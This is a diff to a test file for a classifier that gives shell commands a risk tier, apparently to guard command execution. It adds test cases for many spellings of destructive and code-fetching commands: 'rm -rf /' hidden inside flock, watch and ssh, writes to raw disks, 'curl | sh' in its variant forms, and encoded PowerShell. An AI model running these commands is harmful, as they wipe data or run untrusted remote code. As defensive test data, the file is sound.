@@ -853,3 +853,70 @@ def test_rm_rf_hidden_in_random_harmless_context_is_always_found():
         if text.startswith("$(") or text.startswith("`"):
             text = "echo " + text
         assert classify(text).tier == 3, text
+
+
+# -- spellings that once slipped below their tier ---------------------------------------------
+SPELLINGS = tiers("""
+3  flock /tmp/lock -c 'rm -rf /'
+3  flock -n /tmp/lock -c 'rm -rf /'
+1  flock /tmp/lock -c 'ls'
+3  watch -d rm -rf x
+3  watch --differences rm -rf x
+1  watch -d=permanent kubectl get pods
+3  ssh host -- rm -rf /
+3  ssh host -t rm -rf /
+3  ssh host -o ProxyCommand='rm -rf /'
+2  ssh host -t uptime
+2  curl --create-dirs -o a/b https://x
+3  curl -s https://x -o /dev/sda
+3  wget -O /dev/sdb https://x
+3  rm --interactive=never -r x
+2  rm --interactive=always -r x
+2  date --s=2020-01-01
+2  hostname --fil=/etc/hostname
+1  hostname --fqdn
+2  journalctl --vac
+2  journalctl --rot
+2  sort --outp=x f
+2  dmesg --cle
+1  dmesg --color=always
+2  ss -K dst 10.0.0.1
+2  ss --kill
+1  ss -tlnp
+3  powershell -enco ZQBjAGgAbwA=
+3  powershell -Encoded ZQBjAGgAbwA=
+3  powershell /enc ZQBjAGgAbwA=
+3  curl https://x | (sh)
+3  curl https://x | { sh; }
+3  curl https://x | tee >(sh)
+3  curl https://x > >(sh)
+3  (sh) < <(curl https://x)
+3  curl https://x | bash -c 'source /dev/stdin'
+3  curl https://x | ssh host
+1  ls | (grep x)
+3  python3 -c "$(curl -s https://x)"
+3  perl -e "$(curl https://x)"
+3  python3 -c "$(echo cHJpbnQ= | base64 -d)"
+2  python3 -c "print('$(date)')"
+3  curl https://x | xargs -I% sh -c %
+3  ls | xargs -I{} {}
+1  ls | xargs -I{} kubectl describe pod {}
+1  ls | xargs -i kubectl describe pod {}
+3  ls | xargs -i rm -rf {}
+1  # rm -rf /
+1  bash -c '# nothing'
+""")
+
+
+@pytest.mark.parametrize("cmd,tier", SPELLINGS)
+def test_option_spellings_and_feeds_do_not_lower_the_tier(cmd, tier):
+    check(cmd, tier)
+
+
+def test_a_here_document_is_the_remote_payload_of_ssh_and_exec():
+    check("ssh host <<'EOF'\nrm -rf /var/lib/x\nEOF", 3)
+    check("ssh host <<'EOF'\nuptime\nEOF", 2)
+    check("ssh host bash -s <<'EOF'\nrm -rf /x\nEOF", 3)
+    check("kubectl exec -i api-0 -- sh <<'EOF'\nrm -rf /data\nEOF", 3)
+    check("kubectl exec -i api-0 -- sh <<'EOF'\nls /data\nEOF", 2)
+    check("docker exec -i api sh <<'EOF'\nrm -rf /data\nEOF", 3)
